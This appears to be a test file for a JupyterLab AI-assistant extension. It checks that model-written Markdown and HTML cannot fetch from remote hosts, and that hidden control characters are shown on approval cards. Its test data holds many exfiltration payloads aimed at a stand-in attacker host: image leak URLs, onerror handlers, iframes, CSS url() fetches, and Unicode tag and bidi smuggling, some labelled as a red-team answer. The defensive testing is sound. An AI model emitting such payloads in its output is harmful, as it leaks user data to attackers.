/**
 * What keeps model text inert: the Markdown source rewrite for notebook
 * cells (checked through `marked`, the parser JupyterLab uses), the
 * rendered-tree rewrite of the panel (on a small fake DOM: Node has none),
 * and the visible control characters of approval cards.
 */
import * as assert from 'node:assert/strict';
import { test } from 'node:test';
import { marked } from 'marked';

import * as inert from '../inertMarkdown';
import * as controls from '../visibleControls';
import { trans } from './helpers';

function render(markdown: string): string {
  return marked.parse(markdown, { async: false });
}

// ------------------------------------------------------------------ helpers

const EVIL = 'http://127.0.0.2:9999';

/** Tags and attributes of rendered HTML that would fetch from another host. */
function remoteFetches(html: string): string[] {
  const found: string[] = [];
  const tag = /<([a-zA-Z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g;
  let m: RegExpExecArray | null;
  while ((m = tag.exec(html))) {
    const name = m[1].toLowerCase();
    if (['script', 'style', 'iframe', 'link', 'object', 'embed', 'base', 'meta'].includes(name)) {
      found.push(m[0]);
      continue;
    }
    const attr = /([^\s=/>]+)\s*=\s*("([^"]*)"|'([^']*)'|([^\s>]+))/g;
    let a: RegExpExecArray | null;
    while ((a = attr.exec(m[2]))) {
      const key = a[1].toLowerCase();
      const value = a[3] ?? a[4] ?? a[5] ?? '';
      const remote = /^\s*(?:[a-z][a-z0-9+.-]*:|[\\/]{2})/i.test(value) && !/^\s*data:/i.test(value);
      if (key.startsWith('on')) {
        found.push(`${name} ${key}`);
      } else if (key === 'style' && /url\s*\(/i.test(value)) {
        found.push(`${name} style`);
      } else if (['src', 'srcset', 'poster', 'background', 'data'].includes(key) && remote) {
        found.push(`${name} ${key}=${value}`);
      }
    }
  }
  return found;
}

// ------------------------------------------------------------------ URLs

test('classifyUrl: same origin and data: load, anything else is remote', () => {
  const base = 'http://127.0.0.1:8888/lab/tree/a.ipynb';
  assert.equal(inert.classifyUrl('files/plot.png', base), 'local');
  assert.equal(inert.classifyUrl('/files/plot.png?x=1', base), 'local');
  assert.equal(inert.classifyUrl('http://127.0.0.1:8888/files/p.png', base), 'local');
  assert.equal(inert.classifyUrl('data:image/png;base64,AAAA', base), 'inline');
  assert.equal(inert.classifyUrl('http://127.0.0.2:8888/x', base), 'remote');
  assert.equal(inert.classifyUrl('//evil.test/x', base), 'remote');
  assert.equal(inert.classifyUrl('\\\\evil.test/x', base), 'remote');
  assert.equal(inert.classifyUrl(' \t//evil.test/x', base), 'remote');
  assert.equal(inert.classifyUrl('https://127.0.0.1:8888/x', base), 'remote'); // another scheme, another origin
  assert.equal(inert.classifyUrl('ftp://x/y', base), 'remote');
});

test('classifySourceUrl: only plain relative paths are local', () => {
  assert.equal(inert.classifySourceUrl('plot.png'), 'local');
  assert.equal(inert.classifySourceUrl('./img/a b.png'), 'local');
  assert.equal(inert.classifySourceUrl('/files/a.png'), 'local');
  assert.equal(inert.classifySourceUrl('data:image/gif;base64,R0lG'), 'inline');
  for (const url of [
    'http://evil/x',
    'HTTPS://evil/x',
    '//evil/x',
    '\\\\evil\\x',
    '/\\evil/x',
    '&#47;&#47;evil/x',
    '/\t/evil/x',
    'attachment:x.png',
    'javascript:alert(1)'
  ]) {
    assert.equal(inert.classifySourceUrl(url), 'remote', url);
  }
});

test('attributeRisk and styleFetches', () => {
  assert.equal(inert.attributeRisk('img', 'SRC'), 'url');
  assert.equal(inert.attributeRisk('video', 'poster'), 'url');
  assert.equal(inert.attributeRisk('a', 'href'), null);
  assert.equal(inert.attributeRisk('image', 'href'), 'url');
  assert.equal(inert.attributeRisk('img', 'srcset'), 'srcset');
  assert.equal(inert.attributeRisk('img', 'onerror'), 'handler');
  assert.equal(inert.attributeRisk('details', 'open'), null);
  assert.equal(inert.styleFetches('color: red; padding: 2px'), false);
  assert.equal(inert.styleFetches('background: URL (x)'), true);
  assert.equal(inert.styleFetches('background: u\\72l(x)'), true);
  assert.equal(inert.styleFetches('background-image: -webkit-image-set(x 1x)'), true);
});

// ------------------------------------------------------------------ Markdown source

test('inertMarkdownSource: the red-team answer renders with nothing remote', () => {
  const source = [
    `Result: ![x](${EVIL}/leak?k=1)`,
    '',
    `<img src="${EVIL}/leak2">`,
    '',
    '<img src=x onerror="window.__pwned=1">',
    ''
  ].join('\n');
  const out = inert.inertMarkdownSource(source);
  assert.match(out, /\[image: x\]\(http:\/\/127\.0\.0\.2:9999\/leak\?k=1\) \*\(not loaded\)\*/);
  assert.match(out, /<a href=http:\/\/127\.0\.0\.2:9999\/leak2>image \(not loaded\)<\/a>/);
  assert.match(out, /<img src=x>/);
  assert.doesNotMatch(out, /onerror/);
  const html = render(out);
  assert.deepEqual(remoteFetches(html), []);
  assert.match(html, /<a href="http:\/\/127\.0\.0\.2:9999\/leak\?k=1">image: x<\/a>/);
  // The unrewritten source would have fetched: the check itself works.
  assert.equal(remoteFetches(render(source)).length, 3);
});

test('inertMarkdownSource: every Markdown image form', () => {
  const cases = [
    `![ref][r]\n\n[r]: ${EVIL}/ref.png`,
    `![r]\n\n[r]: ${EVIL}/shortcut.png`,
    `![r][]\n\n[r]: <${EVIL}/collapsed.png> "t"`,
    `![t](${EVIL}/t.png "title")`,
    `![a](<${EVIL}/angle brackets.png>)`,
    `![a ![b](${EVIL}/nested.png)](x.png)`,
    `[![a](${EVIL}/in-link.png)](https://example.org)`,
    `![a\`]\`](${EVIL}/code-in-label.png)`,
    `![a](&#x2F;&#x2F;127.0.0.2/entity.png)`,
    `![a](\\\\127.0.0.2/backslash.png)`,
    `!![a](${EVIL}/double-bang.png)`,
    `![a](${EVIL}/paren_(x).png)`,
    `![a\n](${EVIL}/newline-label.png)`,
    `![a](\n${EVIL}/newline-dest.png\n)`,
    `* list ![a](${EVIL}/list.png)`,
    `> quote ![a](${EVIL}/quote.png)`,
    `| t |\n|---|\n| ![a](${EVIL}/table.png) |`
  ];
  for (const source of cases) {
    const out = inert.inertMarkdownSource(source);
    assert.deepEqual(remoteFetches(render(out)), [], `${source}\n->\n${out}`);
    assert.equal(inert.inertMarkdownSource(out), out, `idempotent: ${source}`);
  }
});

test('inertMarkdownSource: raw HTML in every shape the browser reads', () => {
  const cases = [
    `<IMG SRC=${EVIL}/upper>`,
    `<img/src="${EVIL}/slash">`,
    `<img src = '${EVIL}/spaced'>`,
    `<img src="&#104;ttp://127.0.0.2/entity">`,
    `<img src="a.png" srcset="${EVIL}/s 2x, b.png 1x">`,
    `<video src="clip.mp4" poster="${EVIL}/poster.png"></video>`,
    `<video><source src="${EVIL}/v.mp4"></video>`,
    `<audio src="${EVIL}/a.mp3"></audio>`,
    `<div style="background:url(${EVIL}/bg)">x</div>`,
    `<table background="${EVIL}/t.png"><tr><td>x</td></tr></table>`,
    `<svg><image href="${EVIL}/svg.png"/></svg>`,
    `<input type="image" src="${EVIL}/input.png">`,
    `<div>\n\n<img src="${EVIL}/in-block">\n\n</div>`,
    `<div>\n\`\`\`\n<img src="${EVIL}/fake-fence">\n\`\`\`\n</div>`,
    `<a title='<img src="${EVIL}/in-attr">'>x</a>`,
    `<a title='\n\n<img src="${EVIL}/broken-attr">\n'>x</a>`,
    `<style>body { background: url(${EVIL}/css) }</style>`,
    `<link rel="stylesheet" href="${EVIL}/x.css">`,
    `<iframe src="${EVIL}/frame"></iframe>`,
    `<img src="${EVIL}/unterminated"`,
    '<img src=x onerror=alert(1)>',
    '<p onclick="alert(1)">x</p>'
  ];
  for (const source of cases) {
    const out = inert.inertMarkdownSource(source);
    assert.deepEqual(remoteFetches(render(out)), [], `${source}\n->\n${out}`);
    assert.equal(inert.inertMarkdownSource(out), out, `idempotent: ${source}`);
  }
});

test('inertMarkdownSource: local images, links and plain text stay as they were', () => {
  const keep = [
    '![plot](plot.png)',
    '![plot](figures/plot.png "Figure 1")',
    '![dot](data:image/png;base64,iVBORw0KGgo=)',
    '<img src="figures/plot.png" alt="plot" width="200">',
    `[a link](${EVIL}/page) and <${EVIL}/autolink>`,
    `<a href="${EVIL}/page">html link</a>`,
    '# Title\n\nSome **bold** text, `code`, and $x^2$.',
    '<details><summary>More</summary>\n\nHidden\n</details>'
  ];
  for (const source of keep) {
    assert.equal(inert.inertMarkdownSource(source), source);
  }
});

// ------------------------------------------------------------------ rendered trees (fake DOM)

interface IClickEvent {
  defaultPrevented: boolean;
  preventDefault(): void;
  stopPropagation(): void;
}

/** The part of a DOM element that makeInert uses. */
class FakeElement {
  constructor(
    readonly ownerDocument: IFakeDocument,
    readonly localName: string,
    attributes: Record<string, string> = {}
  ) {
    this.attributes = Object.entries(attributes).map(([name, value]) => ({ name, value }));
  }

  attributes: { name: string; value: string }[];
  children: FakeElement[] = [];
  parentElement: FakeElement | null = null;
  listeners: Record<string, ((event: IClickEvent) => void)[]> = {};
  text = '';
  loaded = 0;

  get textContent(): string {
    return this.text + this.children.map(c => c.textContent).join('');
  }
  set textContent(value: string) {
    this.text = value;
    this.children = [];
  }
  getAttribute(name: string): string | null {
    const found = this.attributes.find(a => a.name === name);
    return found ? found.value : null;
  }
  setAttribute(name: string, value: unknown): void {
    const found = this.attributes.find(a => a.name === name);
    if (found) {
      found.value = String(value);
    } else {
      this.attributes.push({ name, value: String(value) });
    }
  }
  removeAttribute(name: string): void {
    this.attributes = this.attributes.filter(a => a.name !== name);
  }
  append(...children: FakeElement[]): this {
    for (const child of children) {
      child.parentElement = this;
      this.children.push(child);
    }
    return this;
  }
  querySelectorAll(): FakeElement[] {
    const out: FakeElement[] = [];
    const walk = (el: FakeElement): void => el.children.forEach(c => (out.push(c), walk(c)));
    walk(this);
    return out;
  }
  contains(other: FakeElement | null): boolean {
    for (let el = other; el; el = el.parentElement) {
      if (el === this) {
        return true;
      }
    }
    return false;
  }
  remove(): void {
    if (this.parentElement) {
      const siblings = this.parentElement.children;
      siblings.splice(siblings.indexOf(this), 1);
      this.parentElement = null;
    }
  }
  replaceWith(other: FakeElement): void {
    const parent = this.parentElement!;
    parent.children[parent.children.indexOf(this)] = other;
    other.parentElement = parent;
    this.parentElement = null;
  }
  addEventListener(type: string, listener: (event: IClickEvent) => void): void {
    (this.listeners[type] = this.listeners[type] || []).push(listener);
  }
  click(): IClickEvent {
    const event: IClickEvent = {
      defaultPrevented: false,
      preventDefault() {
        this.defaultPrevented = true;
      },
      stopPropagation() {}
    };
    (this.listeners.click || []).forEach(listener => listener(event));
    return event;
  }
  load(): void {
    this.loaded++;
  }
  /** Every attribute value in the tree, to look for remote URLs. */
  allValues(): string[] {
    return [
      ...this.attributes.map(a => `${this.localName} ${a.name}=${a.value}`),
      ...this.children.flatMap(c => c.allValues())
    ];
  }
}

interface IFakeDocument {
  createElement(name: string): FakeElement;
}

function fakeDocument() {
  const doc: IFakeDocument = {
    createElement: name => new FakeElement(doc, name)
  };
  const h = (name: string, attributes: Record<string, string>, ...children: FakeElement[]) =>
    new FakeElement(doc, name, attributes).append(...children);
  return { doc, h };
}

/** makeInert on the fake tree (it takes a DOM Element). */
function makeInert(root: FakeElement, options: inert.IInertOptions): number {
  return inert.makeInert(root as unknown as Element, options);
}

const BASE = 'http://127.0.0.1:8888/lab/tree/a.ipynb';

test('makeInert: a remote image waits behind a button; a click loads it', () => {
  const { h } = fakeDocument();
  const img = h('img', { src: `${EVIL}/leak?k=1`, alt: 'x' });
  const root = h('div', {}, h('p', {}, img));
  const loaded: string[] = [];
  const allowed = new Set<string>();
  const n = makeInert(root, { base: BASE, allowed, onLoad: (urls: string[]) => loaded.push(...urls), trans });
  assert.equal(n, 1);
  assert.deepEqual(root.allValues().filter(v => v.includes('127.0.0.2') && !v.startsWith('button title')), []);
  const button = root.children[0].children[0];
  assert.equal(button.localName, 'button');
  assert.equal(button.textContent, 'Load image from 127.0.0.2:9999');
  assert.equal(img.getAttribute('src'), null);

  const event = button.click();
  assert.equal(event.defaultPrevented, true); // a placeholder inside a link does not follow it
  assert.equal(root.children[0].children[0], img);
  assert.equal(img.getAttribute('src'), `${EVIL}/leak?k=1`);
  assert.deepEqual(loaded, [`${EVIL}/leak?k=1`]);

  // Once loaded, a re-render (streaming) keeps it.
  const again = h('div', {}, h('img', { src: `${EVIL}/leak?k=1` }));
  for (const url of loaded) {
    allowed.add(url);
  }
  assert.equal(makeInert(again, { base: BASE, allowed, trans }), 0);
  assert.equal(again.children[0].getAttribute('src'), `${EVIL}/leak?k=1`);
});

test('makeInert: same-origin and data: images show, links stay links', () => {
  const { h } = fakeDocument();
  const root = h(
    'div',
    {},
    h('img', { src: 'http://127.0.0.1:8888/files/plot.png?123' }),
    h('img', { src: 'data:image/png;base64,AAAA' }),
    h('a', { href: `${EVIL}/page` }, h('img', { src: 'plot.png' }))
  );
  assert.equal(makeInert(root, { base: BASE, trans }), 0);
  assert.deepEqual(
    root.children.map(c => c.localName),
    ['img', 'img', 'a']
  );
  assert.equal(root.children[2].getAttribute('href'), `${EVIL}/page`);
});

test('makeInert: media, srcset, CSS, handlers and dangerous elements', () => {
  const { h } = fakeDocument();
  const video = h('video', { src: 'clip.mp4', poster: `${EVIL}/poster.png` });
  const audio = h('audio', {}, h('source', { src: `${EVIL}/a.mp3` }));
  const picture = h('picture', {}, h('source', { srcset: `${EVIL}/p.webp 2x` }), h('img', { src: 'p.png' }));
  const root = h(
    'div',
    {},
    video,
    audio,
    picture,
    h('img', { src: 'a.png', srcset: `a.png 1x, ${EVIL}/a2.png 2x` }),
    h('div', { style: `background: url(${EVIL}/bg)` }, h('span', { style: 'color: red' })),
    h('table', { background: `${EVIL}/t.png` }),
    h('img', { src: 'x', onerror: 'window.__pwned=1' }),
    h('script', {}),
    h('style', {}),
    h('iframe', { src: `${EVIL}/frame` })
  );
  assert.equal(makeInert(root, { base: BASE, trans }), 4);
  assert.deepEqual(root.allValues().filter(v => v.includes('127.0.0.2') && !v.startsWith('button title')), []);
  const labels = root.children.filter(c => c.localName === 'button').map(c => c.textContent);
  assert.deepEqual(labels, [
    'Load video from 127.0.0.2:9999',
    'Load audio from 127.0.0.2:9999',
    'Load image from 127.0.0.2:9999',
    'Load image from 127.0.0.2:9999'
  ]);
  assert.deepEqual(
    root.children.map(c => c.localName),
    ['button', 'button', 'button', 'button', 'div', 'table', 'img']
  );
  assert.equal(root.children[4].getAttribute('style'), null);
  assert.equal(root.children[4].children[0].getAttribute('style'), 'color: red');
  assert.equal(root.children[6].getAttribute('onerror'), null);

  root.children[1].click(); // audio: its <source> gets its src back and the element reloads
  assert.equal(root.children[1], audio);
  assert.equal(audio.children[0].getAttribute('src'), `${EVIL}/a.mp3`);
  assert.equal(audio.loaded, 1);
  root.children[0].click();
  assert.equal(video.getAttribute('poster'), `${EVIL}/poster.png`);
  assert.equal(video.getAttribute('src'), 'clip.mp4');
});

// ------------------------------------------------------------------ visible control characters

test('splitControls: CR, backspace, ANSI escapes, C1, bidi and zero-width show as markers', () => {
  const text = "HIDDEN='ran'\rprint('visible')\x08\x1b[31m\u0085a\u202Eb\u2066c\u200Bd\uFEFF\u061C\u200E\n\tok";
  const segments = controls.splitControls(text, trans);
  const labels = segments.filter(s => s.control).map(s => s.control!.label);
  assert.deepEqual(labels, [
    '\\r',
    '\\b',
    '\\x1b',
    '\\x85',
    '<U+202E>',
    '<U+2066>',
    '<U+200B>',
    '<U+FEFF>',
    '<U+061C>',
    '<U+200E>'
  ]);
  assert.equal(segments.map(s => s.text).join(''), text, 'nothing lost');
  assert.ok(segments.find(s => s.control?.label === '<U+202E>')?.control?.name.includes('right-to-left override'));
  assert.equal(
    controls.visibleString(text),
    "HIDDEN='ran'\\rprint('visible')\\b\\x1b[31m\\x85a<U+202E>b<U+2066>c<U+200B>d<U+FEFF><U+061C><U+200E>\n\tok"
  );
});

test('splitControls: a lone CR breaks the line for code, CRLF does not', () => {
  const code = controls.splitControls("a\rb\r\nc", trans, { breakAfterCR: true });
  assert.deepEqual(
    code.map(s => [s.text, !!s.breakAfter]),
    [['a', false], ['\r', true], ['b', false], ['\r', false], ['\nc', false]]
  );
  assert.equal(controls.splitControls('a\rb', trans).some(s => s.breakAfter), false);
});

test('splitControls: tag characters (surrogate pairs) and plain text', () => {
  const smuggled = 'hi\u{E0041}\u{E0042}';
  assert.deepEqual(
    controls.splitControls(smuggled, trans).map(s => (s.control ? s.control.label : s.text)),
    ['hi', '<U+E0041>', '<U+E0042>']
  );
  assert.deepEqual(controls.splitControls('plain\ttext\n', trans), [{ text: 'plain\ttext\n', control: null }]);
  assert.deepEqual(controls.splitControls('', trans), []);
});

test('countHiddenControls: nested args', () => {
  assert.equal(controls.countHiddenControls({ command: 'ls\r', stdin: ['a\u202E'], timeout: 3 }), 2);
  assert.equal(controls.countHiddenControls({ code: 'print(1)\n' }), 0);
});
